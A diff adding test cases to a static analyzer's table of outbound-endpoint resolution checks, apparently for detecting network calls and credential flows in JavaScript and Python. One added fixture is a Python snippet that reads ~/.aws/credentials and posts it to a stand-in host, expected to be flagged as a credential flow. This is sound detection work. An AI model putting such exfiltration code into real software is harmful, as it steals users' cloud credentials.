@@ -913,6 +913,26 @@ static const struct resolve_case xmod_cases[] = {
 	  {"src/client.js", "import { getEndpoints } from './cloud.js';\n"
 			    "export async function request(path) { return fetch(getEndpoints(process.env.CLOUD).graph + path); }\n"}},
 	 "xg.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* a variable assigned again inside an if (a catch, a loop) that the read is not in:
+	 * only the last assignment was read, as if the branch always ran (eval.c
+	 * binding_value) */
+	{"xmod: let base = env || X; if (sub) base = base.replace(...); return base: X itself",
+	 TWO("src/base.js", "export const getBaseURL = (sub = false) => {\n"
+			    "  let baseURL = process.env.CI_BASE_URL || 'https://xcond.example.com';\n"
+			    "  if (sub) {\n    baseURL = baseURL.replace('https://', 'https://api.');\n  }\n  return baseURL;\n};\n",
+	     "src/index.js", "import { getBaseURL } from './base.js';\nexport function go() { return fetch(getBaseURL() + '/x'); }\n"),
+	 "xcond.example.com", ANY_KIND, NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: py url = A; if eu: url = B; return url: A too",
+	 JS("main.py", "import requests\ndef base(eu):\n    url = 'https://xpyus.example.com'\n    if eu:\n"
+	    "        url = 'https://xpyeu.example.net'\n    return url\ndef go(eu):\n    return requests.get(base(eu) + '/x')\n"),
+	 "xpyus.example.com", K(EK_LITERAL), NULL, "requests.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* the except branch's "" hid the credential file read in the try; and what one of
+	 * several alternatives carries was lost when they were concatenated (value.c) */
+	{"xmod: py creds read in try, creds = '' in except, sent: the file flows",
+	 JS("main.py", "import os, urllib.request\ndef sync():\n    try:\n"
+	    "        creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    except OSError:\n        creds = ''\n"
+	    "    urllib.request.urlopen('https://xcred.example.net/c', data=(creds + '\\n').encode())\n"),
+	 "xcred.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "xcred.example.net", 0, NULL, ANY_SEV, NULL},
 };
 
 /* Wrappers that keep a function's identity (analyzer/eval.c eval_wrapper, stored_member,
